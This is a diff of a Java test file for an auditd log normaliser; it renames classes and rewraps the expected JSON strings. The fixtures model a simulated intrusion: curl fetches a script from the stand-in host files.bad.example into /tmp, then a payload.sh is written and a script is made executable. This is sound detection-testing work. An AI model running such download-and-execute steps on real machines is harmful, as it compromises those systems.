@@ -5,8 +5,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.clicktrail.event.Event;
 import io.clicktrail.event.EventKind;
 import io.clicktrail.event.EventOutcome;
-import io.clicktrail.normalizer.Facts;
-import io.clicktrail.normalizer.Reader;
+import io.clicktrail.normalizer.parse.EventFacts;
+import io.clicktrail.normalizer.parse.TestNormalizer;
 import io.clicktrail.normalizer.raw.Outcome;
 import io.clicktrail.normalizer.raw.Reason;
 import java.util.ArrayList;
@@ -17,45 +17,66 @@ import org.junit.jupiter.api.Test;
 
 class AuditdTextTest {
 
-    private static final String HOST =
-            "\"host\":{\"name\":\"lin-7.corp.example\",\"hostname\":\"lin-7.corp.example\",\"domain\":\"corp.example\",\"os\":{\"type\":\"linux\"}}";
+    private static final String HOST = "\"host\":{\"name\":\"lin-7.corp.example\",\"hostname\":\"lin-7.corp.example\","
+            + "\"domain\":\"corp.example\",\"os\":{\"type\":\"linux\"}}";
 
-    private final Reader reader = new Reader();
+    private final TestNormalizer reader = new TestNormalizer();
 
     @Test
     void readsAProcessStart() {
-        assertThat(Facts.of(reader.event(AuditFixtures.EXECVE))).isEqualTo("""
-                {"@timestamp":"2026-03-02T10:00:05.701Z","event":{"action":"process_start","code":"execve","dataset":"linux.auditd"},%s,"user":{"name":"ada","id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"start":"2026-03-02T10:00:05.701Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/tmp/my report.sh\\" https://files.bad.example/a","working_directory":"/home/ada","parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176}}}""".formatted(HOST));
+        assertThat(EventFacts.of(reader.event(AuditFixtures.EXECVE))).isEqualTo("""
+                {"@timestamp":"2026-03-02T10:00:05.701Z","event":{"action":"process_start","code":"execve",\
+                "dataset":"linux.auditd"},%s,"user":{"name":"ada","id":"1000"},\
+                "process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"start":"2026-03-02T10:00:05.701Z",\
+                "executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/tmp/my report.sh\\" \
+                https://files.bad.example/a","working_directory":"/home/ada",\
+                "parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176}}}""".formatted(HOST));
     }
 
     @Test
     void readsAConnection() {
-        assertThat(Facts.of(reader.event(AuditFixtures.CONNECT))).isEqualTo("""
-                {"@timestamp":"2026-03-02T10:00:05.802Z","event":{"action":"network_connection","code":"42","dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"executable":"/usr/bin/curl","name":"curl"},"destination":{"ip":"203.0.113.9","port":443},"network":{"direction":"egress"}}""".formatted(HOST));
+        assertThat(EventFacts.of(reader.event(AuditFixtures.CONNECT))).isEqualTo("""
+                {"@timestamp":"2026-03-02T10:00:05.802Z","event":{"action":"network_connection","code":"42",\
+                "dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221",\
+                "pid":2221,"executable":"/usr/bin/curl","name":"curl"},"destination":{"ip":"203.0.113.9","port":443},\
+                "network":{"direction":"egress"}}""".formatted(HOST));
     }
 
     @Test
     void readsAFileThatIsCreated() {
-        assertThat(Facts.of(reader.event(AuditFixtures.OPEN))).isEqualTo("""
-                {"@timestamp":"2026-03-02T10:00:05.903Z","event":{"action":"file_write","code":"257","dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"executable":"/usr/bin/curl","name":"curl","working_directory":"/home/ada"},"file":{"path":"/home/ada/Downloads/payload.sh","name":"payload.sh","extension":"sh"}}""".formatted(HOST));
+        assertThat(EventFacts.of(reader.event(AuditFixtures.OPEN))).isEqualTo("""
+                {"@timestamp":"2026-03-02T10:00:05.903Z","event":{"action":"file_write","code":"257",\
+                "dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221",\
+                "pid":2221,"executable":"/usr/bin/curl","name":"curl","working_directory":"/home/ada"},\
+                "file":{"path":"/home/ada/Downloads/payload.sh","name":"payload.sh","extension":"sh"}}\
+                """.formatted(HOST));
     }
 
     @Test
     void readsARenameAsAWriteWithItsSource() {
-        assertThat(Facts.of(reader.event(AuditFixtures.RENAME))).isEqualTo("""
-                {"@timestamp":"2026-03-02T10:00:06.004Z","event":{"action":"file_write","code":"82","dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:3001","pid":3001,"executable":"/usr/lib/firefox/firefox","name":"firefox","working_directory":"/home/ada"},"file":{"path":"/home/ada/Downloads/a.AppImage","name":"a.AppImage","extension":"appimage","original_path":"/home/ada/Downloads/a.AppImage.part"}}""".formatted(HOST));
+        assertThat(EventFacts.of(reader.event(AuditFixtures.RENAME))).isEqualTo("""
+                {"@timestamp":"2026-03-02T10:00:06.004Z","event":{"action":"file_write","code":"82",\
+                "dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:3001",\
+                "pid":3001,"executable":"/usr/lib/firefox/firefox","name":"firefox","working_directory":"/home/ada"},\
+                "file":{"path":"/home/ada/Downloads/a.AppImage","name":"a.AppImage","extension":"appimage",\
+                "original_path":"/home/ada/Downloads/a.AppImage.part"}}""".formatted(HOST));
     }
 
     @Test
     void readsAChangeOfModeOfAnotherArchitecture() {
-        assertThat(Facts.of(reader.event(AuditFixtures.CHMOD))).isEqualTo("""
-                {"@timestamp":"2026-03-02T10:00:06.105Z","event":{"action":"file_mode","code":"53","dataset":"linux.auditd"},%s,"user":{"id":"0"},"process":{"entity_id":"lin-7.corp.example::2222","pid":2222,"executable":"/usr/bin/chmod","name":"chmod","working_directory":"/tmp"},"file":{"path":"/tmp/a.sh","name":"a.sh","extension":"sh","mode":"0755"}}""".formatted(HOST));
+        assertThat(EventFacts.of(reader.event(AuditFixtures.CHMOD))).isEqualTo("""
+                {"@timestamp":"2026-03-02T10:00:06.105Z","event":{"action":"file_mode","code":"53",\
+                "dataset":"linux.auditd"},%s,"user":{"id":"0"},"process":{"entity_id":"lin-7.corp.example::2222",\
+                "pid":2222,"executable":"/usr/bin/chmod","name":"chmod","working_directory":"/tmp"},\
+                "file":{"path":"/tmp/a.sh","name":"a.sh","extension":"sh","mode":"0755"}}""".formatted(HOST));
     }
 
     @Test
     void readsALogin() {
-        assertThat(Facts.of(reader.event(AuditFixtures.LOGIN))).isEqualTo("""
-                {"@timestamp":"2026-03-02T10:00:00.100Z","event":{"action":"logon","code":"user_login","dataset":"linux.auditd"},%s,"user":{"name":"ada","id":"1000"},"client":{"ip":"10.1.2.17"},"logon":{"type":10,"id":"8","ip":"10.1.2.17","begin":true}}""".formatted(HOST));
+        assertThat(EventFacts.of(reader.event(AuditFixtures.LOGIN))).isEqualTo("""
+                {"@timestamp":"2026-03-02T10:00:00.100Z","event":{"action":"logon","code":"user_login",\
+                "dataset":"linux.auditd"},%s,"user":{"name":"ada","id":"1000"},"client":{"ip":"10.1.2.17"},\
+                "logon":{"type":10,"id":"8","ip":"10.1.2.17","begin":true}}""".formatted(HOST));
     }
 
     @Test
@@ -68,7 +89,7 @@ class AuditdTextTest {
 
     @Test
     void givesOneEventWhateverTheOrderOfItsLines() {
-        String expected = Facts.of(reader.event(AuditFixtures.EXECVE));
+        String expected = EventFacts.of(reader.event(AuditFixtures.EXECVE));
         String id = reader.event(AuditFixtures.EXECVE).getEventId();
         for (int seed = 0; seed < 50; seed++) {
             List<String> lines = new ArrayList<>(AuditFixtures.EXECVE.lines().toList());
@@ -76,7 +97,7 @@ class AuditdTextTest {
             Collections.shuffle(lines, new Random(seed));
 
             Event event = reader.event(String.join("\n", lines));
-            assertThat(Facts.of(event)).as("seed %d", seed).isEqualTo(expected);
+            assertThat(EventFacts.of(event)).as("seed %d", seed).isEqualTo(expected);
             assertThat(event.getEventId()).as("seed %d", seed).isEqualTo(id);
         }
     }
@@ -163,7 +184,9 @@ class AuditdTextTest {
     void joinsAnArgumentOfSeveralRecords() {
         String text = AuditFixtures.EXECVE.replace(
                 "argc=4 a0=\"curl\" a1=\"-o\" a2=2F746D702F6D79207265706F72742E7368 a3=\"https://files.bad.example/a\"",
-                "argc=3 a0=\"sh\" a1=\"-c\" a2_len=12 a2[0]=C3A4\nnode=lin-7.corp.example type=EXECVE msg=audit(1772445605.701:4711): a2[1]=2062C3\nnode=lin-7.corp.example type=EXECVE msg=audit(1772445605.701:4711): a2[2]=A9");
+                "argc=3 a0=\"sh\" a1=\"-c\" a2_len=12 a2[0]=C3A4\nnode=lin-7.corp.example type=EXECVE "
+                        + "msg=audit(1772445605.701:4711): a2[1]=2062C3\nnode=lin-7.corp.example type=EXECVE "
+                        + "msg=audit(1772445605.701:4711): a2[2]=A9");
         String cut = text.substring(0, text.lastIndexOf("node=lin-7.corp.example type=EXECVE"))
                 + text.substring(text.indexOf("node=lin-7.corp.example type=CWD"));
 
